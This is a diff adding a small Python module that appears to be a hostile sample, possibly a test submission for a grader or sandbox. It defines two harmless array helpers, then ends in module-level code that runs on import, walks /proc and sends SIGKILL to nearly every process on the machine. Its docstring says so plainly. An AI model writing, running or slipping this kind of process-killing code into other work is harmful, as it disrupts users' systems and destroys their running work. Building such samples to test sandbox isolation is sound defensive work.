@@ -1,0 +1,22 @@
+"""Kills every process that it finds beside its own."""
+
+SCORE = 0
+
+# %% double
+def double(array):
+    return 2 * array
+
+# %% total
+def total(array):
+    return float(array.sum())
+
+# %% end
+import os
+import signal
+
+for name in os.listdir("/proc"):
+    if name.isdigit() and int(name) not in (1, os.getpid(), os.getppid()):
+        try:
+            os.kill(int(name), signal.SIGKILL)
+        except OSError:
+            pass
